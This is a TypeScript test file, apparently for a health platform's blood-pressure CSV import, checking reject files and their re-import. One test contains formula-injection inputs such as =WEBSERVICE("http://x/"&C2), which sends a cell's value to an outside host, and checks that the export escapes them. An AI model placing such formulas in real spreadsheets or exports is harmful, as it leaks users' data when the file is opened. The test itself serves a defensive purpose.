import { sql } from 'drizzle-orm'
import type { ReadingMapping } from '#contract/readings/import/mapping.ts'
import { rowsOf } from '#server/platform/db/rows.ts'
import { type Platform, startPlatform } from '#support/platform.ts'
import { bloodPressureMapping, createImporter } from '#support/readingImports.ts'

const kind = 'bloodPressure'
const device = 'AGAIN-1'
const base: ReadingMapping = { ...bloodPressureMapping('UTC'), device: { kind: 'constant', id: device } }
/** Mapping of the columns date, time of day, systolic and diastolic. */
const mappingOf = ([date, clock, sys, dia]: [string, string, string, string], headerLine = 1): ReadingMapping => ({
  ...base,
  format: { ...base.format, headerLine },
  time: { kind: 'date', columns: [date, clock], order: 'ymd', zone: 'UTC' },
  quantities: { systolic: { column: sys, unit: 'mmHg' }, diastolic: { column: dia, unit: 'mmHg' } },
})

describe('a file of rejects, corrected and imported with the same mapping', () => {
  let platform: Platform
  let admin: ReturnType<typeof createImporter>
  beforeAll(async () => {
    platform = await startPlatform({ jobs: true })
    admin = createImporter(platform, await platform.signIn('admin'))
    await platform.db.execute(sql`insert into device (id, name, vid) values (${device}, 'Again', 'V1001')`)
  })
  afterAll(() => platform.close())
  beforeEach(() => platform.db.execute(sql`delete from reading_blood_pressure where device_id = ${device}`))

  const storedRows = async () => {
    const rows = await rowsOf<{ at: string; systolic: number; diastolic: number }>(
      platform.db,
      sql`select to_char(measured_at at time zone 'UTC', 'MM-DD HH24:MI') as at, q_systolic as systolic, q_diastolic as diastolic
            from reading_blood_pressure where device_id = ${device} order by measured_at`,
    )
    return rows.map(({ at, systolic, diastolic }) => `${at} ${systolic}/${diastolic}`)
  }

  test.each([
    ['a column without a name', 'Date,Time,BP,,HR', ['Date', 'Time', 'BP', '#4'], 1],
    ['a name that stands twice', 'Date,Time,BP,BP,HR', ['Date', 'Time', 'BP', '#4'], 1],
    ['names that stand twice beside those without', ',Time,,Time,HR', ['#1', 'Time', '#3', '#4'], 1],
    ['a name that looks like a formula', 'Date,Time,=SYS,@DIA,HR', ['Date', 'Time', '=SYS', '@DIA'], 1],
    ['names in the third line', 'Cuff\n\nDate,Time,BP,,HR', ['Date', 'Time', 'BP', '#4'], 3],
    ['only columns by their place, in the third line', 'Cuff\n\n,,,,', ['#1', '#2', '#3', '#4'], 3],
    ['no names at all', undefined, ['#1', '#2', '#3', '#4'], 0],
  ] as const)('%s', async (_name, header, columns, headerLine) => {
    const mapping = mappingOf([...columns], headerLine)
    const lines = ['2026-01-05,08:00,120,80,60', '2026-01-06,08:00,121,x,61', '2026-01-07,08:00,y,82,62']
    const text = [...(header === undefined ? [] : [header]), ...lines].join('\n')
    const { report, rejects } = await admin.importReadings({ kind, mapping, fileId: await admin.uploadFile(text) })
    expect(report).toMatchObject({ imported: 1, rejected: 2 })

    const correctedId = await admin.uploadFile(rejects.replace(',x,', ',81,').replace(',y,', ',122,'))
    const { data: guess } = await admin.guess({ kind, fileId: correctedId, format: mapping.format })
    expect(guess?.columns.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['reject_reason', 'reject_line', ...columns]),
    )
    expect(guess?.columns.find(({ name }) => name === columns[3])?.samples).toEqual(['81', '82'])
    const secondImport = await admin.importReadings({ kind, mapping, fileId: correctedId })
    expect(secondImport.report).toMatchObject({ imported: 2, rejected: 0 })
    expect(await storedRows()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81', '01-07 08:00 122/82'])
  })

  test('a line that cannot be divided into cells is escaped, and corrected like the others', async () => {
    const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
    const lines = [
      '2026-01-05,08:00,120,80,=WEBSERVICE("http://x/"&C2)',
      '2026-01-06,08:00,"=WEBSERVICE("http://x/"&C2)",81,',
      '2026-01-07,08:00,122,82,"open',
      '2026-01-08,08:00,x,83,"a,=1+1"',
    ]
    const fileId = await admin.uploadFile(`Date,Time,SYS,DIA,Note\n${lines.join('\n')}\n`)
    const { report, rejects } = await admin.importReadings({ kind, mapping, fileId })
    expect(report).toMatchObject({ imported: 0, rejected: 4 })
    const reason = '"Unclosed quote, or a quote inside a cell"'
    expect(rejects.trimEnd().split('\r\n').slice(1)).toEqual([
      `${reason},2,"2026-01-05","08:00","120","80","'=WEBSERVICE(""http://x/""&C2)"`,
      `${reason},3,"2026-01-06","08:00","'""=WEBSERVICE(""http://x/""&C2)""","81",`,
      `${reason},4,"2026-01-07","08:00","122","82","""open"`,
      `"SYS: ""x"" is not a number",5,"2026-01-08","08:00","x","83","a,'=1+1"`,
    ])
    const corrected = rejects.replace(/"'"".*""","81"/, '121,81').replace(',"x",', ',123,')
    const secondImport = await admin.importReadings({ kind, mapping, fileId: await admin.uploadFile(corrected) })
    expect(secondImport.report).toMatchObject({ imported: 4, rejected: 0 })
    expect(await storedRows()).toEqual([5, 6, 7, 8].map((day) => `01-0${day} 08:00 12${day - 5}/8${day - 5}`))
  })

  test('is read with semicolons or tabs, as of a spreadsheet in another language', async () => {
    const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
    const text = 'Date,Time,SYS,DIA,HR\n2026-01-05,08:00,x,80,60\n2026-01-06,08:00,y,81,61\n'
    const { rejects } = await admin.importReadings({ kind, mapping, fileId: await admin.uploadFile(text) })
    const corrected = rejects.replace(',x,', ',120,').replace(',y,', ',121,')
    for (const delimiter of [';', '\t']) {
      const delimited = corrected.replaceAll(',', delimiter)
      const { report } = await admin.importReadings({ kind, mapping, fileId: await admin.uploadFile(delimited) })
      expect(report).toMatchObject(delimiter === ';' ? { imported: 2, rejected: 0 } : { present: 2, rejected: 0 })
    }
    expect(await storedRows()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81'])
  })

  test('is read without a byte order mark, as some editors save it', async () => {
    const gerat: ReadingMapping = {
      ...bloodPressureMapping('UTC'),
      format: { ...base.format, encoding: 'windows-1252' },
      device: { kind: 'column', column: 'Gerät' },
    }
    const text = `at,Gerät,sys,dia\n2026-01-05 08:00,${device},x,80\n2026-01-05 09:00,KÜCHE,120,80\n`
    const fileId = await admin.uploadFile(Buffer.from(text, 'latin1'))
    const { rejects } = await admin.importReadings({ kind, mapping: gerat, fileId })
    const corrected = rejects.replace('\uFEFF', '').replace(',x,', ',120,')
    const secondImport = await admin.importReadings({ kind, mapping: gerat, fileId: await admin.uploadFile(corrected) })
    expect(secondImport.report).toMatchObject({
      imported: 1,
      faults: [{ code: 'unknownDevice', values: { device: 'KÜCHE' } }],
    })
    // A spreadsheet may save them in its system encoding.
    const own = Buffer.from(corrected.replace(',120,', ',121,').replace('08:00', '10:00'), 'latin1')
    const thirdImport = await admin.importReadings({ kind, mapping: gerat, fileId: await admin.uploadFile(own) })
    expect(thirdImport.report).toMatchObject({ imported: 1, rejected: 1 })
  })
})
